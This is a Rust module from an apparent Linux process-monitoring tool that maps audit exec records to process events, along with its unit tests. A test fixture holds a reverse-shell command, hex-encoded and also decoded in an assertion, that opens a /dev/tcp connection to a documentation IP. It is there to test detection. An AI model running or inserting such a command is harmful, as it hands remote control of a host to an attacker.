//! Linux audit exec records → `ProcessEvent`, with parent facts from the process table.
//!
//! The mapping (design.md §3, Linux column): `process.executable` is SYSCALL `exe` and
//! `process.name` its basename — never argv[0] or comm, which the process controls; args come
//! from every EXECVE record; ids stay strings; names are resolved once per id. A failed exec
//! (`success=no`) started nothing: it becomes `event.type: ["info"]`, `event.outcome: "failure"`
//! with the attempted path, so `event.type == "start"` rules never fire on `$PATH` probing.

use std::collections::{HashMap, HashSet};
use std::path::PathBuf;
use std::sync::Arc;

use execsentry_linux::{arch, ExecRecord, SyscallInfo};

use crate::entity::EntityIds;
use crate::event::{basename, Action, HostInfo, Ids, ProcessEvent, ProcessInfo, SourceFacts};
use crate::process_table::{Limits, ProcessTable, TableStats};
use crate::procfs;
use crate::users::NameCache;

/// Distinct (euid, uid, egid, gid) combinations remembered; past it the cache starts over.
const MAX_ID_SETS: usize = 1024;

/// Audit's "unset" id (auid, ses).
const UNSET: u32 = u32::MAX;

/// How much older than its child's exec a `/proc` parent may claim to be younger: audit times are
/// jiffy-coarse and `/proc` start times tick-coarse.
const START_SLACK_NS: i64 = 1_000_000_000;

/// Turns assembled exec records into events, keeping the process table current.
pub struct AuditNormalizer {
    table: ProcessTable,
    names: NameCache,
    ids_cache: HashMap<[Option<u32>; 4], Ids>,
    host: Arc<HostInfo>,
    /// Entity ids hash host id, boot id (live only), pid and generation.
    ids: EntityIds,
    /// `/proc` for seeding and fallback lookups; `None` when replaying another time's records.
    proc_root: Option<PathBuf>,
    clock: Option<procfs::Clock>,
}

impl AuditNormalizer {
    /// A normalizer for records from this machine, now: `/proc` seeds and backs the table.
    pub fn live(host: Arc<HostInfo>, limits: Limits) -> AuditNormalizer {
        let boot_id = procfs::boot_id().unwrap_or_default();
        let ids = EntityIds::new(host.id.as_deref().unwrap_or_default(), &boot_id);
        let mut n = AuditNormalizer::replay(host, limits);
        n.ids = ids;
        n.proc_root = Some(PathBuf::from("/proc"));
        n.clock = procfs::Clock::read();
        n
    }

    /// A normalizer for recorded streams: the table is built from the records alone.
    pub fn replay(host: Arc<HostInfo>, limits: Limits) -> AuditNormalizer {
        AuditNormalizer {
            table: ProcessTable::new(limits),
            names: NameCache::new(),
            ids_cache: HashMap::new(),
            ids: EntityIds::new(host.id.as_deref().unwrap_or_default(), ""),
            host,
            proc_root: None,
            clock: None,
        }
    }

    /// Fills the table with every running process (live only). Returns how many were read.
    pub fn seed_from_proc(&mut self) -> usize {
        let (Some(root), Some(clock)) = (self.proc_root.clone(), self.clock) else {
            return 0;
        };
        let mut seeded = 0;
        for pid in procfs::pids(&root) {
            if let Some((mut info, start_ticks)) =
                procfs::read_process(&root, pid, &clock, &mut self.names)
            {
                info.entity_id = self.ids.id(pid, start_ticks);
                self.table.insert(Arc::new(info), start_ticks);
                seeded += 1;
            }
        }
        seeded
    }

    /// Drops table entries of processes that are gone (live) past their grace period.
    /// One listing of `/proc` per prune, not a `stat` per table entry (tens of thousands).
    pub fn prune(&mut self, now_ns: i64) {
        match &self.proc_root {
            Some(root) => {
                let running: HashSet<u32> = procfs::pids(root).into_iter().collect();
                self.table.prune(now_ns, |pid| running.contains(&pid));
            }
            None => self.table.prune(now_ns, |_| true),
        }
    }

    pub fn table_stats(&self) -> TableStats {
        self.table.stats()
    }

    /// The event for one exec record; a successful exec becomes its pid's current image.
    pub fn exec(&mut self, rec: &ExecRecord) -> ProcessEvent {
        let sc = &rec.syscall;
        let timestamp_ns = (rec.time.sec as i64)
            .saturating_mul(1_000_000_000)
            .saturating_add(i64::from(rec.time.ms) * 1_000_000);
        let pid = sc.pid.unwrap_or(0);
        let ppid = sc.ppid.unwrap_or(0);
        let failed = rec.failed();
        let cwd = rec.cwd.as_deref().map(lossy);
        let executable = match (&sc.exe, failed) {
            // A failed exec leaves the old image: the attempt is the PATH name.
            (_, true) | (None, false) => attempted_path(rec, cwd.as_deref()).unwrap_or_default(),
            (Some(exe), false) => lossy(exe),
        };
        let args: Vec<String> = rec.argv.iter().map(lossy).collect();
        let tty = sc.tty.as_deref().map(lossy).filter(|t| !t.is_empty());
        let ids = self.ids_of(sc).clone();
        let process = ProcessInfo {
            pid,
            ppid,
            entity_id: self.ids.id(pid, u64::from(rec.serial)),
            name: basename(&executable).to_owned(),
            command_line: args.join(" "),
            executable,
            args,
            working_directory: cwd,
            ids,
            interactive: tty.is_some(),
            tty,
            start_ns: Some(timestamp_ns),
            ..Default::default()
        };
        let parent = self.parent(ppid, timestamp_ns);
        let process = Arc::new(process);
        if !failed {
            self.table
                .insert(Arc::clone(&process), u64::from(rec.serial));
        }
        let syscall = match (sc.arch, sc.nr) {
            (Some(a), Some(nr))
                if arch::Arch::from_audit_value(a).is_some_and(|a| a.execveat() == nr) =>
            {
                "execveat"
            }
            _ => "execve",
        };
        ProcessEvent {
            timestamp_ns,
            sequence: u64::from(rec.serial),
            action: Action::Exec,
            process,
            parent,
            host: Arc::clone(&self.host),
            source: SourceFacts::Audit {
                session: sc.ses.filter(|&s| s != UNSET).map(|s| s.to_string()),
                audit_user_id: sc.auid.filter(|&a| a != UNSET).map(|a| a.to_string()),
                key: first_key(rec),
                syscall,
                failed,
            },
        }
    }

    /// Ids as strings and their names, formatted and resolved once per combination (hosts run
    /// under a handful of them).
    fn ids_of(&mut self, sc: &SyscallInfo) -> &Ids {
        let key = [sc.euid, sc.uid, sc.egid, sc.gid];
        if !self.ids_cache.contains_key(&key) {
            if self.ids_cache.len() >= MAX_ID_SETS {
                self.ids_cache.clear();
            }
            let id = |v: Option<u32>| v.map_or_else(String::new, |v| v.to_string());
            let names = &mut self.names;
            let ids = Ids {
                user_id: id(sc.euid),
                user_name: sc.euid.and_then(|v| names.user(v)),
                real_user_id: id(sc.uid),
                real_user_name: sc.uid.and_then(|v| names.user(v)),
                group_id: id(sc.egid),
                group_name: sc.egid.and_then(|v| names.group(v)),
                real_group_id: id(sc.gid),
                real_group_name: sc.gid.and_then(|v| names.group(v)),
            };
            self.ids_cache.insert(key, ids);
        }
        &self.ids_cache[&key]
    }

    /// The parent's current image: from the table, else (live) from `/proc` when the process
    /// there started before the child's exec.
    fn parent(&mut self, ppid: u32, child_time_ns: i64) -> Option<Arc<ProcessInfo>> {
        if ppid == 0 {
            return None;
        }
        let (root, clock) = match (&self.proc_root, self.clock) {
            (Some(r), Some(c)) => (r.clone(), c),
            _ => return self.table.get(ppid, None),
        };
        let (ids, names) = (self.ids, &mut self.names);
        self.table.get_or_fetch(ppid, None, |pid| {
            let (mut info, ticks) = procfs::read_process(&root, pid, &clock, names)?;
            if info
                .start_ns
                .is_some_and(|s| s > child_time_ns + START_SLACK_NS)
            {
                return None;
            }
            info.entity_id = ids.id(pid, ticks);
            Some((info, ticks))
        })
    }
}

fn lossy(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// The file an exec named (PATH item 0), resolved against the working directory.
fn attempted_path(rec: &ExecRecord, cwd: Option<&str>) -> Option<String> {
    let name = lossy(rec.paths.first()?.name.as_deref()?);
    if name.starts_with('/') || name.is_empty() {
        return Some(name);
    }
    Some(match cwd {
        Some(cwd) => format!(
            "{}/{}",
            cwd.trim_end_matches('/'),
            name.trim_start_matches("./")
        ),
        None => name,
    })
}

/// The audit rule key (several keys are joined by 0x01 by the kernel; the first is ours).
fn first_key(rec: &ExecRecord) -> Option<String> {
    rec.syscall.keys().next().map(lossy)
}

#[cfg(test)]
mod tests {
    use super::*;
    use execsentry_linux::{Assembler, AssemblerConfig, AuditEvent};

    fn assemble(log: &str) -> Vec<ExecRecord> {
        let mut asm = Assembler::new(AssemblerConfig::text());
        let mut out = Vec::new();
        let mut emit = |e: AuditEvent| {
            if let AuditEvent::Exec(x) = e {
                out.push(*x)
            }
        };
        for line in log.lines().filter(|l| !l.trim().is_empty()) {
            let rec = execsentry_linux::parse_line(line.trim().as_bytes()).expect("fixture line");
            asm.push(&rec, &mut emit);
        }
        asm.flush(&mut emit);
        out
    }

    fn host() -> Arc<HostInfo> {
        Arc::new(HostInfo {
            name: "h".into(),
            hostname: "h".into(),
            os_type: "linux".into(),
            ..Default::default()
        })
    }

    /// A shell (pid 100) runs a reverse shell (pid 101) and exits: the child's event still
    /// names its parent, from the table, not from `/proc`.
    const SHELL_THEN_REVERSE_SHELL: &str = r#"
type=SYSCALL msg=audit(1795848213.100:500): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=100 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="execsentry"
type=EXECVE msg=audit(1795848213.100:500): argc=1 a0="bash"
type=CWD msg=audit(1795848213.100:500): cwd="/home/u"
type=PATH msg=audit(1795848213.100:500): item=0 name="/usr/bin/bash" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1795848213.100:500): proctitle="bash"
type=SYSCALL msg=audit(1795848213.200:501): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=100 pid=101 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key="execsentry"
type=EXECVE msg=audit(1795848213.200:501): argc=3 a0="sh" a1="-c" a2=7368202D69203E26202F6465762F7463702F3139322E302E322E312F3434343420303E2631
type=CWD msg=audit(1795848213.200:501): cwd="/home/u"
type=PATH msg=audit(1795848213.200:501): item=0 name="/bin/sh" inode=2 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1795848213.200:501): proctitle=7368002D63
type=SYSCALL msg=audit(1795848213.300:502): arch=c000003e syscall=59 success=no exit=-2 a0=1 a1=2 a2=3 a3=0 items=1 ppid=101 pid=102 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="execsentry"
type=CWD msg=audit(1795848213.300:502): cwd="/tmp"
type=PATH msg=audit(1795848213.300:502): item=0 name="./nope" nametype=UNKNOWN cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1795848213.300:502): proctitle="sh"
"#;

    #[test]
    fn maps_exec_records_with_parents_from_the_table() {
        let recs = assemble(SHELL_THEN_REVERSE_SHELL);
        assert_eq!(recs.len(), 3);
        let mut n = AuditNormalizer::replay(host(), Limits::default());
        let bash = n.exec(&recs[0]);
        assert_eq!(bash.process.name, "bash");
        assert!(bash.parent.is_none(), "pid 1 was never seen in a replay");

        let sh = n.exec(&recs[1]);
        let p = &sh.process;
        assert_eq!((p.pid, p.ppid), (101, 100));
        assert_eq!(p.executable, "/usr/bin/dash");
        assert_eq!(p.name, "dash", "basename of exe, not argv[0]");
        assert_eq!(
            p.args,
            ["sh", "-c", "sh -i >& /dev/tcp/192.0.2.1/4444 0>&1"]
        );
        assert_eq!(
            p.command_line,
            "sh -c sh -i >& /dev/tcp/192.0.2.1/4444 0>&1"
        );
        assert_eq!(p.working_directory.as_deref(), Some("/home/u"));
        assert_eq!(
            (p.ids.user_id.as_str(), p.ids.group_id.as_str()),
            ("1000", "1000")
        );
        assert!(p.interactive);
        assert_eq!(p.tty.as_deref(), Some("pts0"));
        assert_eq!(sh.timestamp_ns, 1_795_848_213_200_000_000);
        assert_eq!(sh.sequence, 501);
        let parent = sh.parent.as_ref().expect("parent from the table");
        assert_eq!(
            (parent.name.as_str(), parent.command_line.as_str()),
            ("bash", "bash")
        );
        assert_eq!(parent.entity_id, bash.process.entity_id);
        assert_eq!(
            sh.source,
            SourceFacts::Audit {
                session: Some("3".into()),
                audit_user_id: Some("1000".into()),
                key: Some("execsentry".into()),
                syscall: "execve",
                failed: false
            }
        );

        let failed = n.exec(&recs[2]);
        assert!(failed.failed());
        assert_eq!(
            failed.event_type(),
            ["info"],
            "a failed exec is not a process start"
        );
        assert_eq!(failed.process.executable, "/tmp/nope");
        assert!(failed.process.args.is_empty());
        assert!(!failed.process.interactive);
        assert_eq!(
            failed.parent.as_ref().map(|p| p.name.as_str()),
            Some("dash")
        );
        assert!(matches!(
            failed.source,
            SourceFacts::Audit {
                session: None,
                audit_user_id: None,
                ..
            }
        ));
        // A failed exec is not the pid's image: pid 102 stays unknown.
        assert!(n.table.get(102, None).is_none());
    }

    #[test]
    fn live_parent_falls_back_to_proc_for_processes_started_earlier() {
        let mut n = AuditNormalizer::live(host(), Limits::default());
        let me = std::process::id();
        let now = crate::time::now_ns();
        let found = n.parent(me, now).expect("this test process is in /proc");
        assert_eq!(found.pid, me);
        let mut n = AuditNormalizer::live(host(), Limits::default());
        assert!(
            n.parent(me, 0).is_none(),
            "a process started after the event is not its parent"
        );
    }
}
